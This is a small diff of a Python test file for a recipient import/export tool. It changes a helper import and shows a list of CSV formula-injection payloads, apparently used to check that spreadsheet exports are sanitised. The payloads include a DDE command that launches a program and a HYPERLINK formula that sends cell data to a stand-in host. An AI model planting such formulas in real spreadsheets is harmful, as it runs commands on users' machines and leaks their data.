@@ -11,8 +11,7 @@ from broadcast.recipients.groups import add_group
 from broadcast.recipients.importer import ImportOptions, import_members
 from broadcast.recipients.members import add_member, export_members, list_members
 from broadcast.workspace import Workspace
-
-from .files import read_csv, write_csv
+from tests.helpers.files import read_csv, write_csv
 
 EVIL = ["=1+1", "@SUM(1+1)", "+SUM(1+1)", "-2+3", "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")",
         "=cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
